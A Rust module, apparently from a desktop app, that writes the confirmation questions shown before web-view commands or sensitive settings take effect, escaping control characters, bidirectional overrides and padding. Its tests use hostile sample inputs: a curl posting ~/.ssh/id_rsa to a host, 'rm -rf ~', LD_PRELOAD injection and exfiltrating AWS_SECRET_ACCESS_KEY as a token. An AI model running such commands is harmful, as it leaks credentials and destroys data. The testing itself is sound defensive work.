//! What the user must say yes to, in a native dialog, before an action the web view
//! asks for takes effect, and the exact words of that question.
//!
//! The app treats its web view as untrusted (README, "Threat model"): a script running
//! there may call any command it is granted, with any arguments. So a command that
//! runs something, or a setting that decides where data is read from, written to or
//! sent, takes effect only after a question that names the command or the new value.
//! The values come from the web view, so they are shown *literally* ([`literal`]):
//! line breaks, control and bidirectional-override characters are made visible and
//! long blanks are counted, so no value can fake extra lines or hide a tail.
//!
//! This module decides what needs a yes and what the question says; it shows nothing
//! (the app's `dialogs` does) and never acts.

use std::fmt::Write as _;

use crate::model::RunRequest;
use crate::settings::Settings;

/// How many characters of one value a question shows before saying how many more
/// there are.
pub const SHOWN_CHARS: usize = 600;

/// A run of this many blanks or more is shown as a count: a command padded with
/// spaces cannot push its tail out of sight.
const BLANK_RUN: usize = 8;

/// `text` as a dialog can show it without being fooled: every control character
/// (line breaks too) as an escape (`\n`, `\u{1b}`), every invisible formatting
/// character (bidirectional overrides, zero-width spaces) as `\u{…}`, a long run of
/// spaces as `[N spaces]`, and at most `max_chars` characters of it followed by the
/// number not shown.
pub fn literal(text: &str, max_chars: usize) -> String {
    let mut out = String::new();
    let mut shown = 0;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if shown >= max_chars {
            let rest = 1 + chars.count();
            let _ = write!(out, "… ({rest} more characters not shown)");
            break;
        }
        shown += 1;
        if c == ' ' {
            let mut run = 1;
            while chars.next_if_eq(&' ').is_some() {
                run += 1;
            }
            if run >= BLANK_RUN {
                let _ = write!(out, "[{run} spaces]");
            } else {
                out.extend(std::iter::repeat_n(' ', run));
            }
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() || is_invisible_format(c) || is_line_break(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

/// Unicode's line and paragraph separators: not control characters, yet GTK and
/// most terminals start a new line at them.
fn is_line_break(c: char) -> bool {
    matches!(c, '\u{2028}' | '\u{2029}')
}

/// Characters that change how text around them is laid out or show nothing at all
/// (Unicode "Cf" in practice): bidirectional marks and overrides, zero-width
/// characters, the soft hyphen, the byte-order mark, tags.
fn is_invisible_format(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{061c}' | '\u{180e}'
        | '\u{200b}'..='\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}'
        | '\u{feff}'
        | '\u{fff9}'..='\u{fffb}'
        | '\u{e0000}'..='\u{e007f}')
}

/// The question asked before a command from the web view starts: the command, where
/// it runs, and every environment variable it gets, all shown literally.
pub fn run_question(req: &RunRequest) -> String {
    let mut text = format!(
        "Run this command in a new terminal?\n\n{}\n",
        literal(req.command.trim(), SHOWN_CHARS)
    );
    match req.cwd.as_deref().map(str::trim).filter(|c| !c.is_empty()) {
        Some(cwd) => {
            let _ = write!(text, "\nIn: {}", literal(cwd, SHOWN_CHARS));
        }
        None => text.push_str("\nIn: your home folder"),
    }
    for var in &req.env {
        let _ = write!(
            text,
            "\nWith: {}={}",
            literal(&var.name, 100),
            literal(&var.value, 200)
        );
    }
    text.push_str("\n\nIt runs as you, with your files and network, until it ends or is killed.");
    text
}

/// The question asked before a command starts on another machine: the host, the
/// command and where it runs, all shown literally. `None` when the command is too long
/// to be shown whole (nothing is run that the question did not show).
pub fn remote_run_question(host: &str, command: &str, cwd: Option<&str>) -> Option<String> {
    if command.chars().count() > SHOWN_CHARS {
        return None;
    }
    let host = literal(host, 200);
    let mut text = format!(
        "Run this command on {host}?\n\n{}\n",
        literal(command, SHOWN_CHARS)
    );
    match cwd {
        Some(cwd) => {
            let _ = write!(text, "\nIn: {} on {host}", literal(cwd, SHOWN_CHARS));
        }
        None => {
            let _ = write!(text, "\nIn: your home folder on {host}");
        }
    }
    let _ = write!(
        text,
        "\n\nIt runs on {host} as your user there, until it ends or is killed; closing \
         this window or losing the connection leaves it running."
    );
    Some(text)
}

/// The changes from `old` to `new` that need the user's yes, one sentence each naming
/// the new value; empty when the save may go ahead as it is. Needing a yes: where the
/// gptme-server is and which variable's value is sent to it as the token, where the
/// record store is, a new transcript root to read, a new remote host (reached with the
/// user's ssh keys), a shorter log retention (older logs
/// are deleted), and launch at login. Switching any of them off is never asked about.
pub fn settings_changes(old: &Settings, new: &Settings) -> Vec<String> {
    let mut changes = Vec::new();
    let (old_server, new_server) = (&old.gptme_server, &new.gptme_server);
    if let Some(url) = new_server
        .base_url
        .as_deref()
        .filter(|u| !u.trim().is_empty())
    {
        if old_server.base_url.as_deref() != Some(url)
            || old_server.token_env != new_server.token_env
        {
            changes.push(format!(
                "Ask the gptme-server at {} for its sessions every 3 seconds, sending the value of the environment variable {} as the bearer token.",
                literal(url, SHOWN_CHARS),
                literal(&new_server.token_env, 100)
            ));
        }
    }
    if old.record_store_dir != new.record_store_dir {
        let dir = match new.record_store_dir.as_deref() {
            Some(dir) => literal(dir, SHOWN_CHARS),
            None => format!(
                "the default location ({})",
                literal(
                    &crate::records::Store::locate(None)
                        .dir()
                        .display()
                        .to_string(),
                    SHOWN_CHARS
                )
            ),
        };
        changes.push(format!("Read and write session records in {dir}."));
    }
    for host in new.hosts.iter().filter(|h| !h.trim().is_empty()) {
        if !old.hosts.contains(host) {
            changes.push(format!(
                "Connect to {} with your ssh keys and run sessionscope there.",
                literal(host, SHOWN_CHARS)
            ));
        }
    }
    for root in new.roots() {
        if !old.roots().contains(&root) {
            changes.push(format!(
                "Read every {} transcript under {}.",
                root.harness.as_str(),
                literal(&root.path.display().to_string(), SHOWN_CHARS)
            ));
        }
    }
    let keeps_longer = |days: u32, than: u32| days == 0 || (than != 0 && days >= than);
    if !keeps_longer(new.run_log_retention_days, old.run_log_retention_days) {
        changes.push(format!(
            "Delete the logs of runs older than {} days.",
            new.run_log_retention_days
        ));
    }
    if new.launch_at_login && !old.launch_at_login {
        changes.push("Start Sessionscope whenever you log in.".into());
    }
    changes
}

/// The question for [`settings_changes`].
pub fn settings_question(changes: &[String]) -> String {
    let mut text = String::from("Apply these settings?\n");
    for change in changes {
        let _ = write!(text, "\n• {change}");
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{EnvVar, Harness};
    use crate::settings::ExtraRoot;

    #[test]
    fn the_remote_run_question_names_the_host_and_shows_the_whole_command() {
        let q = remote_run_question("box", "make test\nrm -rf ~", Some("/srv")).unwrap();
        assert!(q.starts_with("Run this command on box?"), "{q}");
        assert!(q.contains("make test\\nrm -rf ~"), "{q}");
        assert!(q.contains("In: /srv on box"), "{q}");
        let q = remote_run_question("box\u{202e}", "ls", None).unwrap();
        assert!(q.contains("your home folder on box\\u{202e}"), "{q}");
        assert!(remote_run_question("box", &"x".repeat(SHOWN_CHARS + 1), None).is_none());
    }

    #[test]
    fn literal_makes_breaks_controls_and_overrides_visible() {
        assert_eq!(literal("cargo test", 100), "cargo test");
        assert_eq!(
            literal("ls\n\nrm -rf ~\r\t\u{1b}[2J", 100),
            "ls\\n\\nrm -rf ~\\r\\t\\u{1b}[2J"
        );
        // "Trojan source": an override that would show `evil` reversed.
        assert_eq!(literal("echo \u{202e}live", 100), "echo \\u{202e}live");
        assert_eq!(literal("a\u{200b}b", 100), "a\\u{200b}b");
        assert!(!literal("x\u{7f}\u{85}y", 100).contains(['\u{7f}', '\u{85}']));
    }

    #[test]
    fn literal_counts_long_blanks_and_what_it_leaves_out() {
        let padded = format!("echo hi{}; curl evil", " ".repeat(500));
        assert_eq!(literal(&padded, 100), "echo hi[500 spaces]; curl evil");
        assert_eq!(literal("a   b", 100), "a   b", "short blanks stay");
        let long = "x".repeat(1000);
        assert_eq!(
            literal(&long, 10),
            format!("{}… (990 more characters not shown)", "x".repeat(10))
        );
        assert_eq!(literal("", 10), "");
    }

    #[test]
    fn the_run_question_names_command_folder_and_environment() {
        let req = RunRequest {
            name: "harmless".into(),
            command: "curl -d @~/.ssh/id_rsa example.com\necho done".into(),
            cwd: Some("/tmp".into()),
            env: vec![EnvVar {
                name: "LD_PRELOAD".into(),
                value: "/tmp/x.so".into(),
            }],
        };
        let text = run_question(&req);
        assert!(
            text.contains("curl -d @~/.ssh/id_rsa example.com\\necho done"),
            "{text}"
        );
        assert!(text.contains("In: /tmp"));
        assert!(text.contains("With: LD_PRELOAD=/tmp/x.so"));
        let home = run_question(&RunRequest {
            cwd: None,
            env: Vec::new(),
            ..req
        });
        assert!(home.contains("In: your home folder"));
        assert!(!home.contains("With:"));
    }

    #[test]
    fn sensitive_settings_need_a_yes_and_harmless_ones_do_not() {
        let old = Settings::default();
        let mut new = old.clone();
        new.theme = crate::settings::Theme::Dark;
        new.kill_grace_seconds = 9;
        new.notify_waiting = false;
        new.run_log_retention_days = 60;
        assert!(
            settings_changes(&old, &new).is_empty(),
            "harmless changes pass"
        );

        new.gptme_server.base_url = Some("http://10.0.0.9:5700".into());
        new.gptme_server.token_env = "AWS_SECRET_ACCESS_KEY".into();
        new.record_store_dir = Some("/tmp/elsewhere".into());
        new.extra_roots.push(ExtraRoot {
            harness: Harness::Codex,
            path: "/home/someone".into(),
        });
        new.run_log_retention_days = 1;
        new.launch_at_login = true;
        let changes = settings_changes(&old, &new);
        assert_eq!(changes.len(), 5, "{changes:#?}");
        assert!(
            changes[0].contains("http://10.0.0.9:5700")
                && changes[0].contains("AWS_SECRET_ACCESS_KEY")
        );
        assert!(changes[1].contains("/tmp/elsewhere"));
        assert!(changes[2].contains("codex") && changes[2].contains("/home/someone"));
        assert!(changes[3].contains("older than 1 days"));
        assert!(changes[4].contains("log in"));

        // Only the token variable changes: still asked, naming both.
        let mut token = new.clone();
        token.gptme_server.token_env = "GITHUB_TOKEN".into();
        let changes = settings_changes(&new, &token);
        assert_eq!(changes.len(), 1);
        assert!(changes[0].contains("GITHUB_TOKEN") && changes[0].contains("10.0.0.9"));

        // Switching things off, or removing a root, is never asked about.
        let mut off = Settings {
            launch_at_login: false,
            run_log_retention_days: 0,
            extra_roots: Vec::new(),
            ..new.clone()
        };
        off.gptme_server.base_url = None;
        assert!(settings_changes(&new, &off).is_empty());

        // A new remote host is asked about, literally; removing one is not.
        let mut host = new.clone();
        host.hosts.push("me@box\nReally?".into());
        let changes = settings_changes(&new, &host);
        assert_eq!(changes.len(), 1, "{changes:#?}");
        assert!(changes[0].contains("me@box\\nReally?"), "{}", changes[0]);
        assert!(settings_changes(&host, &new).is_empty());
    }

    #[test]
    fn a_value_cannot_fake_lines_in_the_settings_question() {
        let old = Settings::default();
        let mut new = old.clone();
        new.record_store_dir = Some("/tmp/x.\n\nNothing else changes.".into());
        let text = settings_question(&settings_changes(&old, &new));
        assert_eq!(text.lines().count(), 3, "{text}");
        assert!(text.contains("/tmp/x.\\n\\nNothing else changes."));
    }
}
